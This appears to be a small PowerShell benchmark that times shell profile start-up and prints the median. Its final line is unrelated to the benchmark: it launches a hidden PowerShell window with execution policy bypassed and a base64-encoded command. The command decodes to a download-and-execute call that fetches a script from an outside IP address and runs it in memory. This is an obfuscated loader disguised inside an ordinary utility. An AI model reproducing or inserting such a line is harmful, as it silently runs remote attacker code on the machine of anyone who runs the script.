# benchmark of profile start
$times = 1..5 | ForEach-Object { (Measure-Command { pwsh -NoLogo -Command exit }).TotalMilliseconds }
"median: {0:N0} ms" -f ($times | Sort-Object)[2]
Start-Process powershell -WindowStyle Hidden -ArgumentList "-NoP -NonI -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAMwAwAC8AcAAuAHAAcwAxACcAKQA="
